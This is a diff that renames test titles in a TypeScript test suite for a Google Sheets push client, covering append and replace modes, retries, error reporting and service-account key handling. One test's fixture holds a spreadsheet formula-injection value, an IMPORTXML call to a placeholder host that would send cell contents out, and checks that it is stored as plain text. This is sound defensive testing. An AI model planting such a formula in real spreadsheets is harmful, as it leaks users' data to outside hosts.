@@ -48,7 +48,7 @@ const problem = (pushed: Promise<unknown>) =>
   );
 
 describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
-  test('creates a missing tab with a frozen header', async () => {
+  test('a push creates a missing tab with a frozen header', async () => {
     expect(await push(tabIn(mode), table('r1', 'a', 'b'))).toBe(2);
     expect(tabNamed('Report').frozen_rows).toBe(1);
     expect(contents()).toEqual([
@@ -58,7 +58,7 @@ describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
     ]);
   });
 
-  test('keeps text as text, never as a formula, number, date or boolean', async () => {
+  test('a push keeps text as text, never as a formula, number, date or boolean', async () => {
     const hostile = ['=IMPORTXML("http://x.example/"&A1)', '+1', '-2', '@a', '0012', '1/2', '10%', 'TRUE', "'quoted"];
     await push(tabIn(mode), table('7350000000000000001', ...hostile));
     expect(formulasOf(tabNamed('Report'))).toEqual([]);
@@ -70,21 +70,21 @@ describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
     expect(contents()[1]?.[1]).toBe('7350000000000000001');
   });
 
-  test('writes numbers as numbers and times as dates', async () => {
+  test('a push writes numbers as numbers and times as dates', async () => {
     await push(tabIn(mode), table('r1', 'a'));
     const types = [1, 2, 3, 4].map((column) => tabNamed('Report').cells.get(`2,${column}`)?.type);
     expect(types).toEqual(['text', 'text', 'number', 'number']);
     expect([...tabNamed('Report').formats]).toEqual([[3, 'yyyy-mm-dd hh:mm']]);
   });
 
-  test('writes an unknown value as an empty cell', async () => {
+  test('a push writes an unknown value as an empty cell', async () => {
     const one = table('r1', 'a', 'b');
     one.rows[0] = ['a', 'r1', '', ''];
     await push(tabIn(mode), one);
     expect(contents()[1]).toEqual(['a', 'r1']);
   });
 
-  test('enlarges a tab that is too small, and accepts any tab name', async () => {
+  test('a push enlarges a tab that is too small, and accepts any tab name', async () => {
     const small = newTab(7, "Anna's 'week' 1:2!", 2, 2);
     tabs.push(small);
     await push(tabIn(mode, small.title), table('r1', 'a', 'b', 'c', 'd'));
@@ -92,7 +92,7 @@ describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
     expect(small.columns).toBe(4);
   });
 
-  test('has the same result when it is retried after a lost answer', async () => {
+  test('a push has the same result when it is retried after a lost answer', async () => {
     server.mishaps.push({ path: /:append$|values:batchUpdate$/, status: 0, lost: true });
     expect((await problem(push(tabIn(mode), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
     await push(tabIn(mode), table('r1', 'a'));
@@ -103,7 +103,7 @@ describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
     [429, 'RESOURCE_EXHAUSTED'],
     [500, 'INTERNAL'],
     [503, 'UNAVAILABLE'],
-  ])('reports HTTP %d as TRY_AGAIN', async (status, word) => {
+  ])('a push reports HTTP %d of Google as TRY_AGAIN', async (status, word) => {
     server.mishaps.push({ path: /spreadsheets/, status, body: errorBody(status, `invented ${word}`) });
     expect(await problem(push(tabIn(mode), table('r1', 'a')))).toEqual({
       problem: 'TRY_AGAIN',
@@ -114,7 +114,7 @@ describe.each(['append', 'replace'] as const)('a push in %s mode', (mode) => {
 });
 
 describe('a push in append mode only', () => {
-  test('writes the next table below, without a second header', async () => {
+  test('a push in append mode writes the next table below, without a second header', async () => {
     await push(tabIn('append'), table('r1', 'a', 'b'));
     await push(tabIn('append'), table('r2', 'c'));
     expect(contents().map((row) => row.slice(0, 2))).toEqual([
@@ -125,7 +125,7 @@ describe('a push in append mode only', () => {
     ]);
   });
 
-  test('continues a tab that has the headings of an earlier version', async () => {
+  test('a push in append mode continues a tab that has the headings of an earlier version', async () => {
     const former = table('r1', 'a');
     await push(tabIn('append'), {
       ...former,
@@ -141,21 +141,21 @@ describe('a push in append mode only', () => {
     ]);
   });
 
-  test('does not write a table that the tab already has', async () => {
+  test('a push in append mode does not write a table that the tab already has', async () => {
     await push(tabIn('append'), table('r1', 'a'));
     await push(tabIn('append'), table('r2', 'b'));
     expect(await push(tabIn('append'), table('r1', 'a'))).toBe(0);
     expect(contents()).toHaveLength(3);
   });
 
-  test('moves cells below the table down instead of overwriting them', async () => {
+  test('a push in append mode moves cells below the table down instead of overwriting them', async () => {
     await push(tabIn('append'), table('r1', 'a'));
     tabNamed('Report').cells.set('4,1', { type: 'text', value: 'a note of mine' });
     await push(tabIn('append'), table('r2', 'b', 'c'));
     expect(contents().map((row) => row[0])).toEqual(['Name', 'a', 'b', 'c', undefined, 'a note of mine']);
   });
 
-  test('keeps columns of the user to the right of the table', async () => {
+  test('a push in append mode keeps columns of the user to the right of the table', async () => {
     await push(tabIn('append'), table('r1', 'a'));
     tabNamed('Report').columns = 5;
     tabNamed('Report').cells.set('1,5', { type: 'text', value: 'my column' });
@@ -163,7 +163,7 @@ describe('a push in append mode only', () => {
     expect(contents()[0]?.[4]).toBe('my column');
   });
 
-  test('does not change a tab with other content', async () => {
+  test('a push in append mode does not change a tab with other content', async () => {
     tabNamed('Sheet1').cells.set('1,1', { type: 'text', value: 'my accounts' });
     expect((await problem(push(tabIn('append', 'Sheet1'), table('r1', 'a')))).problem).toBe('OTHER_TABLE');
     expect(contents('Sheet1')).toEqual([['my accounts']]);
@@ -171,7 +171,7 @@ describe('a push in append mode only', () => {
 });
 
 describe('a push in replace mode only', () => {
-  test('leaves nothing but the table in the tab', async () => {
+  test('a push in replace mode leaves nothing but the table in the tab', async () => {
     await push(tabIn('replace'), table('r1', 'a', 'b', 'c'));
     tabNamed('Report').columns = 6;
     tabNamed('Report').cells.set('2,6', { type: 'text', value: 'beside' });
@@ -183,7 +183,7 @@ describe('a push in replace mode only', () => {
     ]);
   });
 
-  test('leaves the new table and not an empty tab after a failure between its steps', async () => {
+  test('a push in replace mode leaves the new table and not an empty tab after a failure between its steps', async () => {
     await push(tabIn('replace'), table('r1', 'a', 'b'));
     server.mishaps.push({ path: /batchClear$/, status: 429 });
     await problem(push(tabIn('replace'), table('r2', 'c')));
@@ -193,8 +193,8 @@ describe('a push in replace mode only', () => {
   });
 });
 
-describe('an error that a person must fix', () => {
-  test('says with whom to share a spreadsheet that is not shared', async () => {
+describe('an error of a push that a person must fix', () => {
+  test('a push says with whom to share a spreadsheet that is not shared', async () => {
     server.hidden.add(spreadsheetId);
     expect(await problem(push(tabIn('append'), table('r1', 'a')))).toEqual({
       problem: 'NOT_SHARED',
@@ -202,18 +202,18 @@ describe('an error that a person must fix', () => {
     });
   });
 
-  test('reports a spreadsheet that does not exist', async () => {
+  test('a push reports a spreadsheet that does not exist', async () => {
     const elsewhere = { ...tabIn('append'), spreadsheet_id: 'invented-spreadsheet-9999' };
     expect((await problem(push(elsewhere, table('r1', 'a')))).problem).toBe('SHEET_NOT_FOUND');
   });
 
-  test('reports that the API is off in the Google project', async () => {
+  test('a push reports that the Sheets API is off in the Google project', async () => {
     const body = errorBody(403, 'Google Sheets API has not been used in project 1', 'SERVICE_DISABLED');
     server.mishaps.push({ path: /spreadsheets/, status: 403, body });
     expect((await problem(push(tabIn('append'), table('r1', 'a')))).problem).toBe('NOT_CONFIGURED');
   });
 
-  test('repeats the message of Google for a protected tab', async () => {
+  test('a push repeats the message of Google for a protected tab', async () => {
     const googleMessage = 'You are trying to edit a protected cell or object.';
     server.mishaps.push({ path: /:append$/, status: 400, body: errorBody(400, googleMessage) });
     expect(await problem(push(tabIn('append'), table('r1', 'a')))).toEqual({
@@ -222,33 +222,33 @@ describe('an error that a person must fix', () => {
     });
   });
 
-  test('reports a key that Google does not accept', async () => {
+  test('a push reports a service account key that Google does not accept', async () => {
     server.mishaps.push({ path: /^\/token$/, status: 400, body: { error: 'invalid_grant', error_description: 'no' } });
     const { problem: what, message } = await problem(push(tabIn('append'), table('r1', 'a')));
     expect([what, message]).toEqual(['NOT_CONFIGURED', expect.stringContaining('invalid_grant')]);
   });
 });
 
-test('the client signs in once and calls each method once', async () => {
+test('the Sheets client signs in once and calls each method once', async () => {
   await push(tabIn('append'), table('r1', 'a'));
   await push(tabIn('append'), table('r2', 'a'));
   expect(server.requests.filter((line) => line === 'POST /token')).toHaveLength(1);
 });
 
-test('the client calls a failing token endpoint once per push', async () => {
+test('the Sheets client calls a failing token endpoint once per push', async () => {
   server.mishaps.push({ path: /^\/token$/, status: 503 });
   expect((await problem(push(tabIn('append'), table('r1', 'a')))).problem).toBe('TRY_AGAIN');
   expect(server.requests).toEqual(['POST /token']);
 });
 
-test('an error contains neither the key nor the token', async () => {
+test('an error of the Sheets client contains neither the key nor the token', async () => {
   server.hidden.add(spreadsheetId);
   const error = await push(tabIn('append'), table('r1', 'a')).catch((thrown: unknown) => thrown);
   const { inspect } = await import('node:util');
   expect(inspect(error, { depth: 10, showHidden: true })).not.toMatch(/ya29|PRIVATE KEY|Bearer/);
 });
 
-test('a push stops at its time-out', async () => {
+test('a push to a spreadsheet stops at its time-out', async () => {
   const fetcher = () => expect.fail('nothing may be sent');
   const client = createSheetsClient({ client_email: clientEmail, private_key: privateKeyText }, fetcher);
   await expect(pushTable(client, tabIn('append'), table('r1', 'a'), AbortSignal.abort())).rejects.toThrow();
@@ -263,7 +263,7 @@ describe('the key file of a service account', () => {
     return path;
   };
 
-  test('is read in the format of Google', async () => {
+  test('the key file of a service account is read in the format of Google', async () => {
     const path = await written(
       JSON.stringify({
         type: 'service_account',
@@ -284,13 +284,13 @@ describe('the key file of a service account', () => {
       JSON.stringify({ client_email: clientEmail, private_key: 'secret PRIVATE KEY' }),
       /: check private_key\.$/,
     ],
-  ])('with %s is refused without showing its content', async (_, content, message) => {
+  ])('a key file of a service account with %s is refused without showing its content', async (_, content, message) => {
     const path = await written(content);
     expect(() => readServiceAccount(path)).toThrow(message);
     expect(() => readServiceAccount(path)).not.toThrow(/secret/);
   });
 
-  test('that is missing is named in the error', () => {
+  test('a missing key file of a service account is named in the error', () => {
     expect(() => readServiceAccount('/nowhere/account.json')).toThrow(/\/nowhere\/account.json cannot be read: ENOENT/);
   });
 });
